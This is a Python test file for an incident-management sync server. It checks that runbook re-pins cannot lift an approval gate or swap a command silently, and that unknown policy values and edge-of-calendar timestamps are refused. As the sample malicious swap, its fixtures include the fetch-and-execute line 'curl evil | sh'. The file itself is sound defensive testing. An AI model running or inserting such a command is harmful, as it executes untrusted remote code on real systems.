"""The rules a server applies to what a responder's token pushes: a re-pin cannot lift an
approval gate or swap a command silently, and values the policy does not know, or times
at the edges of the calendar, are refused. Through a real ``warroom serve``."""

import json

import pytest

from tests.sync.conftest import server_log
from tests.sync.test_api import _http, _payload_event, _push
from tests.sync.test_faults import _event

INC = "inc-rules1"
STEPS = [
    {"id": "gate", "title": "Approve", "type": "approval", "line": 1},
    {
        "id": "flush",
        "title": "Flush",
        "type": "command",
        "line": 2,
        "commands": [{"language": "sh", "code": "echo safe", "line": 3}],
    },
]
WEAKER = [
    {**STEPS[0], "type": "action"},
    {**STEPS[1], "commands": [{"language": "sh", "code": "curl evil | sh", "line": 3}]},
]
CHANGES = [
    "gate type approval -> action (stays approval: a re-pin cannot lift a gate)",
    "flush command `echo safe` -> `curl evil | sh`",
]


@pytest.fixture
def tokens(server):
    roles = {"root": "admin", "dora": "responder", "sam": "responder", "vic": "viewer"}
    return {name: server.token(name, role) for name, role in roles.items()}


class Pusher:
    def __init__(self, server, tokens) -> None:
        self.server, self.tokens, self.n = server, tokens, 0

    def __call__(self, who: str, payload: dict | str, **envelope) -> dict:
        self.n += 1
        if payload == "declaration":
            body = _event(INC, who, self.n, "declaration")
        else:
            body = _payload_event(INC, who, self.n, payload)
        if envelope:
            body = json.dumps(json.loads(body) | envelope)
        with _http(self.server, self.tokens[who]) as http:
            return _push(http, body).json()["results"][0]


def _attach(content_hash: str, steps: list, **extra) -> dict:
    return {
        "kind": "runbook_attached",
        "runbook_id": "rb",
        "title": "Flush",
        "content_hash": content_hash,
        "steps": steps,
        **extra,
    }


def test_a_re_pin_cannot_lift_the_approval_gate_or_swap_a_command_silently(server, tokens):
    push = Pusher(server, tokens)
    assert push("dora", "declaration")["status"] == "applied"
    seat = {"kind": "role_assigned", "role": "commander", "person": "dora"}
    assert push("dora", seat)["status"] == "applied"  # the declarer takes command
    assert push("sam", _attach("1" * 64, STEPS))["status"] == "applied"  # first attach: open

    # the reported bypass: a responder re-pins with the gate typed `action`, then marks it
    bypass = push("sam", _attach("2" * 64, WEAKER, replaces="1" * 64, changes=CHANGES))
    assert bypass["status"] == "rejected"
    assert "re-pinning runbook rb needs the commander or deputy" in bypass["reason"]
    bare = push("sam", _attach("2" * 64, WEAKER))  # the old shape of a re-pin
    assert bare["status"] == "rejected"
    done = {"kind": "runbook_step", "runbook_id": "rb", "step_id": "gate", "action": "done"}
    assert push("sam", done)["status"] == "rejected"

    # even the commander cannot re-pin silently
    silent = push("dora", _attach("2" * 64, WEAKER, replaces="1" * 64))
    assert silent["status"] == "rejected" and "must list what it changes" in silent["reason"]
    honest = push("dora", _attach("2" * 64, WEAKER, replaces="1" * 64, changes=CHANGES))
    assert honest["status"] == "applied"
    still_gated = push("sam", done)
    assert still_gated["status"] == "rejected"
    assert "completing an approval step" in still_gated["reason"]

    # a sibling: a run record claiming a command other than the pinned one
    ran = {"kind": "command_run", "runbook_id": "rb", "step_id": "flush", "exit_code": 0}
    forged = push("sam", {**ran, "command": "echo safe", "duration_s": 0.1})  # no longer pinned
    assert forged["status"] == "rejected" and "not one pinned" in forged["reason"]
    assert push("sam", {**ran, "command": "curl evil | sh", "duration_s": 0.1})["status"] == (
        "applied"
    )

    records, verified = server_log(server.url, tokens["vic"], INC)
    assert verified.verified_events == len(records)
    repins = [r["event"]["payload"] for r in records if r["event"]["payload"].get("replaces")]
    assert [p["changes"] for p in repins] == [CHANGES]


def test_values_the_policy_does_not_know_and_edge_times_are_refused(server, tokens):
    push = Pusher(server, tokens)
    assert push("dora", "declaration")["status"] == "applied"
    assert (
        push("dora", {"kind": "role_assigned", "role": "commander", "person": "dora"})["status"]
        == "applied"
    )
    refusals = {
        "severity": push("dora", {"kind": "severity_changed", "severity": "SEV99-bogus"}),
        "role": push("dora", {"kind": "role_assigned", "role": "pope", "person": "sam"}),
        "audience": push("dora", {"kind": "status_update", "text": "x", "audience": "mars"}),
        "occurred_at": push(
            "dora", {"kind": "note", "text": "x"}, occurred_at="9999-12-31T23:59:59-14:00"
        ),
        "milestone": push(
            "dora", {"kind": "milestone", "milestone": "mitigated", "at": "9999-12-31T23:59:59Z"}
        ),
        "admin too": push("root", {"kind": "severity_changed", "severity": "SEV99-bogus"}),
    }
    for what, result in refusals.items():
        assert result["status"] == "rejected", what
    assert refusals["severity"]["reason"].startswith("unknown severity 'SEV99-bogus'")
    assert refusals["role"]["reason"].startswith("unknown role 'pope'")
    assert refusals["audience"]["reason"].startswith("unknown audience 'mars'")
    assert refusals["occurred_at"]["reason"].startswith(
        "occurred_at 9999-12-31T23:59:59-14:00 is outside the times an incident can have"
    )
    assert refusals["milestone"]["reason"].startswith("milestone mitigated 9999-12-31")
    assert push("dora", {"kind": "severity_changed", "severity": "SEV1"})["status"] == "applied"
